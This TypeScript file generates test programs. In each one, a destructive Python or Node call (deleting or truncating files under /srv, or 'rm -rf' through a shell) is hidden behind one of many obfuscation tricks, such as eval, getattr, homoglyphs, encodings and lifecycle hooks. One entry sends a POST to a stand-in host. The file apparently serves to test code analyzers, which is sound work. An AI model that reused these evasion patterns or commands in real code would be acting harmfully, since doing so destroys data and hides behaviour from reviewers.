// Ways to hide what a program does: each takes a function of a module and what it is called with, and gives a program.

/** A function that does harm: its module, its name, and its arguments as they are written. */
export interface Sink {
  readonly module: string;
  readonly name: string;
  readonly args: string;
}
type Way = (sink: Sink) => string;

export const PYTHON_SINKS: readonly Sink[] = [
  { module: 'os', name: 'remove', args: '"/srv/ledger.db"' },
  { module: 'shutil', name: 'rmtree', args: '"/srv/archive"' },
  { module: 'os', name: 'system', args: '"rm -rf /srv/archive"' },
  { module: 'subprocess', name: 'call', args: '["rm", "-rf", "/srv"]' },
  { module: 'os', name: 'truncate', args: '"/srv/ledger.db"' },
];

export const PYTHON_WAYS: Readonly<Record<string, Way>> = {
  plain: ({ module: m, name: f, args: a }) => `import ${m}\n${m}.${f}(${a})`,
  'module by another name': ({ module: m, name: f, args: a }) => `import ${m} as q\nq.${f}(${a})`,
  'function by another name': ({ module: m, name: f, args: a }) => `from ${m} import ${f} as show\nshow(${a})`,
  variable: ({ module: m, name: f, args: a }) => `import ${m}\nshow = ${m}.${f}\nshow(${a})`,
  'module in a variable': ({ module: m, name: f, args: a }) => `import ${m}\nq = ${m}\nprint(q.${f}(${a}))`,
  'handed to map': ({ module: m, name: f, args: a }) => `import ${m}\nprint(list(map(${m}.${f}, [${a}])))`,
  'key of a sort': ({ module: m, name: f, args: a }) => `import ${m}\nprint(sorted([${a}], key=${m}.${f}))`,
  getattr: ({ module: m, name: f, args: a }) => `import ${m}\ngetattr(${m}, "${f}")(${a})`,
  'getattr of a name put together': ({ module: m, name: f, args: a }) =>
    `import ${m}\ngetattr(${m}, "${f.slice(0, 2)}" + "${f.slice(2)}")(${a})`,
  __import__: ({ module: m, name: f, args: a }) => `__import__("${m}").${f}(${a})`,
  importlib: ({ module: m, name: f, args: a }) => `import importlib\nimportlib.import_module("${m}").${f}(${a})`,
  'table of functions': ({ module: m, name: f, args: a }) =>
    `import ${m}\ntable = {"show": ${m}.${f}}\ntable["show"](${a})`,
  'list of functions': ({ module: m, name: f, args: a }) => `import ${m}\n[print, ${m}.${f}][1](${a})`,
  'list of modules': ({ module: m, name: f, args: a }) => `import ${m}\n[${m}][0].${f}(${a})`,
  'default argument': ({ module: m, name: f, args: a }) =>
    `import ${m}\ndef report(x, done=${m}.${f}):\n    return done(x)\nreport(${a})`,
  'argument of a function': ({ module: m, name: f, args: a }) =>
    `import ${m}\ndef apply(fn, x):\n    return fn(x)\napply(${m}.${f}, ${a})`,
  lambda: ({ module: m, name: f, args: a }) => `import ${m}\nshow = lambda x: ${m}.${f}(x)\nshow(${a})`,
  'inner function': ({ module: m, name: f, args: a }) =>
    `def outer():\n    import ${m}\n    def inner():\n        ${m}.${f}(${a})\n    return inner\nouter()()`,
  'operator of a class': ({ module: m, name: f, args: a }) =>
    `import ${m}\nclass P:\n    def __add__(self, other):\n        return ${m}.${f}(other)\nP() + ${a}`,
  'function as an operator': ({ module: m, name: f, args: a }) =>
    `import ${m}\nclass P:\n    __getitem__ = staticmethod(${m}.${f})\nP()[${a}]`,
  'end of an object': ({ module: m, name: f, args: a }) =>
    `class C:\n    def __del__(self):\n        import ${m}\n        ${m}.${f}(${a})\nC()\nprint("done")`,
  property: ({ module: m, name: f, args: a }) =>
    `import ${m}\nclass C:\n    @property\n    def size(self):\n        return ${m}.${f}(${a})\nprint(C().size)`,
  decorator: ({ module: m, name: f }: Sink) => `import ${m}\n@${m}.${f}\ndef ledger():\n    pass`,
  'own decorator': ({ module: m, name: f, args: a }) =>
    `import ${m}\ndef mark(fn):\n    ${m}.${f}(${a})\n    return fn\n@mark\ndef go():\n    return 1`,
  partial: ({ module: m, name: f, args: a }) =>
    `import functools, ${m}\nshow = functools.partial(${m}.${f}, ${a})\nshow()`,
  comprehension: ({ module: m, name: f, args: a }) => `import ${m}\nprint([${m}.${f}(x) for x in [${a}]])`,
  'another print': ({ module: m, name: f, args: a }) => `import ${m}\nprint = ${m}.${f}\nprint(${a})`,
  'patched module': ({ module: m, name: f, args: a }) => `import json, ${m}\njson.loads = ${m}.${f}\njson.loads(${a})`,
  setattr: ({ module: m, name: f, args: a }) =>
    `import json, ${m}\nsetattr(json, "loads", ${m}.${f})\njson.loads(${a})`,
  finally: ({ module: m, name: f, args: a }) => `import ${m}\ntry:\n    print(1)\nfinally:\n    ${m}.${f}(${a})`,
  'handler of an error': ({ module: m, name: f, args: a }) =>
    `import ${m}\ntry:\n    int("x")\nexcept ValueError:\n    ${m}.${f}(${a})`,
  'context manager': ({ module: m, name: f, args: a }) =>
    `import ${m}\nclass C:\n    def __enter__(self):\n        return ${m}.${f}(${a})\n    def __exit__(self, *e):\n        return None\nwith C() as c:\n    print(c)`,
  star: ({ module: m, name: f, args: a }) => `import ${m}\n${m}.${f}(*[${a}])`,
  'star import': ({ module: m, name: f, args: a }) => `from ${m} import *\n${f}(${a})`,
  exec: ({ module: m, name: f, args: a }) => `exec('import ${m}; ${m}.${f}(${a})')`,
  'eval in a variable': ({ module: m, name: f, args: a }) => `e = eval\ne('__import__("${m}").${f}(${a})')`,
  globals: ({ module: m, name: f, args: a }) => `import ${m}\nglobals()["${m}"].${f}(${a})`,
  'sys.modules': ({ module: m, name: f, args: a }) => `import sys, ${m}\nsys.modules["${m}"].${f}(${a})`,
  'module of another module': ({ module: m, name: f, args: a }) => `import statistics as s\ns.${m}.${f}(${a})`,
  loader: ({ module: m, name: f, args: a }) => `import math\nmath.__loader__.load_module("${m}").${f}(${a})`,
  subclasses: ({ name: f, args: a }) => `().__class__.__base__.__subclasses__()[140].${f}(${a})`,
  walrus: ({ module: m, name: f, args: a }) => `import ${m}\n(show := ${m}.${f})(${a})`,
  condition: ({ module: m, name: f, args: a }) => `import ${m}\n(${m}.${f} if 1 else len)(${a})`,
  or: ({ module: m, name: f, args: a }) => `import ${m}\n(None or ${m}.${f})(${a})`,
  unpacked: ({ module: m, name: f, args: a }) => `import ${m}\nshow, _ = ${m}.${f}, 1\nshow(${a})`,
  loop: ({ module: m, name: f, args: a }) => `import ${m}\nfor show in [${m}.${f}]:\n    show(${a})`,
  appended: ({ module: m, name: f, args: a }) => `import ${m}\ntodo = []\ntodo.append(${m}.${f})\ntodo[0](${a})`,
  reduce: ({ module: m, name: f, args: a }) =>
    `import functools, ${m}\nfunctools.reduce(lambda x, y: ${m}.${f}(y), [1, ${a}])`,
  'missing key': ({ module: m, name: f, args: a }) =>
    `import collections, ${m}\nd = collections.defaultdict(lambda: ${m}.${f}(${a}))\nprint(d["x"])`,
  'text with a value': ({ module: m, name: f, args: a }) => `import ${m}\nprint(f'{${m}.${f}(${a})}')`,
  assertion: ({ module: m, name: f, args: a }) => `import ${m}\nassert not ${m}.${f}(${a}), "x"`,
  annotation: ({ module: m, name: f, args: a }) => `import ${m}\ntotal: ${m}.${f}(${a}) = 1\nprint(total)`,
  'annotation of a parameter': ({ module: m, name: f, args: a }) =>
    `import ${m}\ndef show(x: ${m}.${f}(${a})):\n    return x\nshow(1)`,
  metaclass: ({ module: m, name: f, args: a }) =>
    `import ${m}\nclass X(metaclass=lambda n, b, d: ${m}.${f}(${a})):\n    size = 1`,
  'at exit': ({ module: m, name: f, args: a }) => `import atexit, ${m}\natexit.register(${m}.${f}, ${a})\nprint(1)`,
  thread: ({ module: m, name: f, args: a }) =>
    `import threading, ${m}\nthreading.Thread(target=${m}.${f}, args=(${a},)).start()`,
  'method caller': ({ module: m, name: f, args: a }) =>
    `import operator, ${m}\noperator.methodcaller("${f}", ${a})(${m})`,
  'copy of an object': ({ module: m, name: f, args: a }) =>
    `import copy, ${m}\nclass C:\n    def __reduce__(self):\n        return (${m}.${f}, (${a},))\ncopy.copy(C())`,
  async: ({ module: m, name: f, args: a }) =>
    `import asyncio, ${m}\nasync def go():\n    await asyncio.sleep(0)\n    ${m}.${f}(${a})\nasyncio.run(go())`,
  index: ({ module: m, name: f, args: a }) => `import ${m}\nprint([1, 2][${m}.${f}(${a}) or 0])`,
  'named argument': ({ module: m, name: f, args: a }) => `import ${m}\nprint(dict(size=${m}.${f}(${a})))`,
  match: ({ module: m, name: f, args: a }) =>
    `import ${m}\nmatch 1:\n    case x if ${m}.${f}(${a}):\n        print(x)\n    case _:\n        print(2)`,
  yielded: ({ module: m, name: f, args: a }) =>
    `import ${m}\ndef todo():\n    yield ${m}.${f}\nfor show in todo():\n    show(${a})`,
  member: ({ module: m, name: f, args: a }) =>
    `import ${m}\nclass C:\n    def __init__(self):\n        self.show = ${m}.${f}\nC().show(${a})`,
  'end of a comment that is none': ({ module: m, name: f, args: a }) =>
    `print(1)  # a comment\rimport ${m}\r${m}.${f}(${a})`,
  'letters that look different': ({ args: a }) => `𝓮𝔁𝓮𝓬(${a})\nprint(1)`,
  'another encoding': () => `# coding: rot13\nvzcbeg bf\nprint("a")`,
  'name of a class': ({ module: m }) =>
    `class K:\n    open = print\n    def go(self):\n        open("/srv/${m}", "w")\nK().go()`,
  'name that is perhaps given': ({ module: m, name: f, args: a }) =>
    `if len("") > 0:\n    exec = print\nexec('import ${m}; ${m}.${f}(${a})')`,
};

export const JAVASCRIPT_SINKS: readonly Sink[] = [
  { module: 'fs', name: 'rmSync', args: "'/srv/archive', { recursive: true }" },
  { module: 'fs', name: 'unlinkSync', args: "'/srv/ledger.db'" },
  { module: 'fs', name: 'truncateSync', args: "'/srv/ledger.db'" },
  { module: 'child_process', name: 'execSync', args: "'rm -rf /srv/archive'" },
  { module: 'fs', name: 'rmdirSync', args: "'/srv/archive'" },
];

export const JAVASCRIPT_WAYS: Readonly<Record<string, Way>> = {
  plain: ({ module: m, name: f, args: a }) => `const m = require('${m}'); m.${f}(${a});`,
  import: ({ module: m, name: f, args: a }) => `import m from 'node:${m}';\nm.${f}(${a});`,
  'import of a name': ({ module: m, name: f, args: a }) => `import { ${f} as show } from '${m}';\nshow(${a});`,
  'import of all': ({ module: m, name: f, args: a }) => `import * as q from '${m}';\nq.${f}(${a});`,
  'dynamic import': ({ module: m, name: f, args: a }) => `const m = await import('${m}');\nm.${f}(${a});`,
  unpacked: ({ module: m, name: f, args: a }) => `const { ${f}: show } = require('${m}');\nshow(${a});`,
  variable: ({ module: m, name: f, args: a }) => `const show = require('${m}').${f};\nshow(${a});`,
  'member by its name': ({ module: m, name: f, args: a }) => `const m = require('${m}');\nm['${f}'](${a});`,
  'member by a name put together': ({ module: m, name: f, args: a }) =>
    `const n = '${f.slice(0, 3)}' + '${f.slice(3)}';\nrequire('${m}')[n](${a});`,
  'require by another name': ({ module: m, name: f, args: a }) => `const r = require;\nr('${m}').${f}(${a});`,
  'module put together': ({ module: m, name: f, args: a }) =>
    `require('${m.slice(0, 1)}' + '${m.slice(1)}').${f}(${a});`,
  'handed to forEach': ({ module: m, name: f }) => `['/srv/a', '/srv/b'].forEach(require('${m}').${f});`,
  callback: ({ module: m, name: f, args: a }) => `const m = require('${m}');\n[1].map(() => m.${f}(${a}));`,
  call: ({ module: m, name: f, args: a }) => `require('${m}').${f}.call(null, ${a});`,
  bind: ({ module: m, name: f, args: a }) => `const show = require('${m}').${f}.bind(null, ${a});\nshow();`,
  Reflect: ({ module: m, name: f, args: a }) => `Reflect.apply(require('${m}').${f}, null, [${a}]);`,
  Function: ({ module: m, name: f, args: a }) =>
    `new Function('r', "r('${m}').${f}(" + ${JSON.stringify(a)} + ")")(require);`,
  'constructor of a list': ({ module: m, name: f }) => `[].constructor.constructor("return process.${m}.${f}()")();`,
  'constructor by its name': ({ module: m }) => `[]['filter']['constructor']("${m}")();`,
  'constructor by two names': ({ module: m }) =>
    `const k = ['con', 'structor'].join('');\nconst F = [][k][k];\nF("${m}")();`,
  eval: ({ module: m, name: f }) => `eval("require('${m}').${f}()");`,
  'eval by another name': ({ module: m, name: f }) => `const e = eval;\ne("require('${m}').${f}()");`,
  'later text': ({ module: m, name: f }) => `setTimeout("require('${m}').${f}()", 10);`,
  getter: ({ module: m, name: f, args: a }) =>
    `const o = { get size() { return require('${m}').${f}(${a}); } };\nconsole.log(o.size);`,
  'as a text': ({ module: m, name: f, args: a }) =>
    `const o = { toString() { return require('${m}').${f}(${a}); } };\nconsole.log(o + '');`,
  thenable: ({ module: m, name: f, args: a }) =>
    `const o = { then(done) { require('${m}').${f}(${a}); done(); } };\nawait o;`,
  iterator: ({ module: m, name: f, args: a }) =>
    `const o = { *[Symbol.iterator]() { yield require('${m}').${f}(${a}); } };\nconsole.log([...o]);`,
  'computed member': ({ module: m, name: f, args: a }) =>
    `const o = { [require('${m}').${f}(${a})]: 1 };\nconsole.log(o);`,
  tag: ({ module: m, name: f }) => `require('${m}').${f}\`/srv/archive\`;`,
  template: ({ module: m, name: f, args: a }) => `console.log(\`\${require('${m}').${f}(${a})}\`);`,
  'default value': ({ module: m, name: f, args: a }) =>
    `function report(x = require('${m}').${f}(${a})) { return x; }\nreport();`,
  'default of a pattern': ({ module: m, name: f, args: a }) =>
    `const { size = require('${m}').${f}(${a}) } = {};\nconsole.log(size);`,
  'argument of a function': ({ module: m, name: f, args: a }) =>
    `const apply = (fn, ...xs) => fn(...xs);\napply(require('${m}').${f}, ${a});`,
  table: ({ module: m, name: f, args: a }) => `const table = { show: require('${m}').${f} };\ntable.show(${a});`,
  'patched object': ({ module: m, name: f, args: a }) => `JSON.parse = require('${m}').${f};\nJSON.parse(${a});`,
  assigned: ({ module: m, name: f, args: a }) =>
    `Object.assign(JSON, { parse: require('${m}').${f} });\nJSON.parse(${a});`,
  'class field': ({ module: m, name: f, args: a }) => `class A { size = require('${m}').${f}(${a}); }\nnew A();`,
  'static block': ({ module: m, name: f, args: a }) => `class A { static { require('${m}').${f}(${a}); } }`,
  'private method': ({ module: m, name: f, args: a }) =>
    `class A { #go() { require('${m}').${f}(${a}); } run() { this.#go(); } }\nnew A().run();`,
  comma: ({ module: m, name: f, args: a }) => `(0, require('${m}').${f})(${a});`,
  condition: ({ module: m, name: f, args: a }) => `(1 ? require('${m}').${f} : isNaN)(${a});`,
  'optional call': ({ module: m, name: f, args: a }) => `require('${m}')?.${f}?.(${a});`,
  loop: ({ module: m, name: f, args: a }) => `for (const show of [require('${m}').${f}]) show(${a});`,
  pushed: ({ module: m, name: f, args: a }) => `const todo = [];\ntodo.push(require('${m}').${f});\ntodo[0](${a});`,
  'global object': ({ module: m, name: f, args: a }) => `globalThis.process.mainModule.require('${m}').${f}(${a});`,
  this: ({ module: m, name: f, args: a }) => `(function () { this['re' + 'quire']('${m}').${f}(${a}); })();`,
  'process binding': ({ name: f, args: a }) => `process.binding('fs').${f}(${a});`,
  event: ({ module: m, name: f, args: a }) => `process.on('exit', () => require('${m}').${f}(${a}));`,
  catch: ({ module: m, name: f, args: a }) => `try { JSON.parse('{'); } catch { require('${m}').${f}(${a}); }`,
  switch: ({ module: m, name: f, args: a }) => `switch (1) { case 1: require('${m}').${f}(${a}); }`,
  label: ({ module: m, name: f, args: a }) => `go: for (;;) { require('${m}').${f}(${a}); break go; }`,
  typed: ({ module: m, name: f, args: a }) => `const show = require('${m}').${f} as (x: string) => void;\nshow(${a});`,
  'sure to be there': ({ module: m, name: f, args: a }) => `const m: any = require('${m}');\nm!.${f}!(${a});`,
  enum: ({ module: m, name: f, args: a }) => `enum E { A = require('${m}').${f}(${a}) }\nconsole.log(E.A);`,
  generator: ({ module: m, name: f, args: a }) =>
    `function* todo() { yield require('${m}').${f}; }\nfor (const show of todo()) show(${a});`,
  'escaped letters': ({ module: m, name: f, args: a }) => `r\\u0065quire('${m}').${f}(${a});`,
  'end of a comment that is none': ({ module: m, name: f, args: a }) =>
    `console.log(1); // a comment\u2028require('${m}').${f}(${a});`,
  'undeclared fetch': () => `if (0) fetch = () => 1;\nfetch('https://drop.example', { method: 'POST', body: '1' });`,
};
